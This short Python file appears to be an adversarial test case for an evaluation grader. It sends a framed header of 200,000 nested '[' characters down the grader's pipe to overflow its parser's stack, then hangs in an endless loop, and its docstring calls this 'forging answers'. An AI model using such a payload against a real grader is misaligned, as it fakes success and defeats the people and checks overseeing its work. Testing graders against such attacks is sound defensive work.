"""Kind: forging answers.
Wins if a deeply nested header overflows the grader's stack.
Defence: malformed headers are refused.
"""

import os
import struct


def attack(target):
    header = b"[" * 200000
    frame = struct.pack("<4sIQ", b"SLC1", len(header), 0) + header
    while frame:
        frame = frame[os.write(target["pipes"][1], frame) :]
    while True:
        pass
